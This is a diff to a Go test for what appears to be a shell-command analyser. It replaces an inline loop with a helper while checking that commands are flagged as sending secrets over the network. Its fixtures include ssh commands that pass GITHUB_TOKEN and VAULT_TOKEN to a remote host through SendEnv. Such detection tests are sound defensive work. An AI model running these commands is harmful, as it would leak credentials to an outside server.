@@ -7,14 +7,7 @@ import "testing"
 // the server as data, whatever service the name belongs to, and that a
 // locale's or the terminal's does not.
 func TestSendEnvSendsTheValue(t *testing.T) {
-	sent := func(line string) bool {
-		for _, e := range effectsOf(line) {
-			if e.Kind == Flow && e.Detail == "secret-variable->network" {
-				return true
-			}
-		}
-		return false
-	}
+	sent := func(line string) bool { return lineHas(line, Flow, "secret-variable->network") }
 	for _, line := range []string{
 		"ssh -o SendEnv=GITHUB_TOKEN u@203.0.113.9",
 		"ssh -o SendEnv=VAULT_TOKEN u@203.0.113.9",
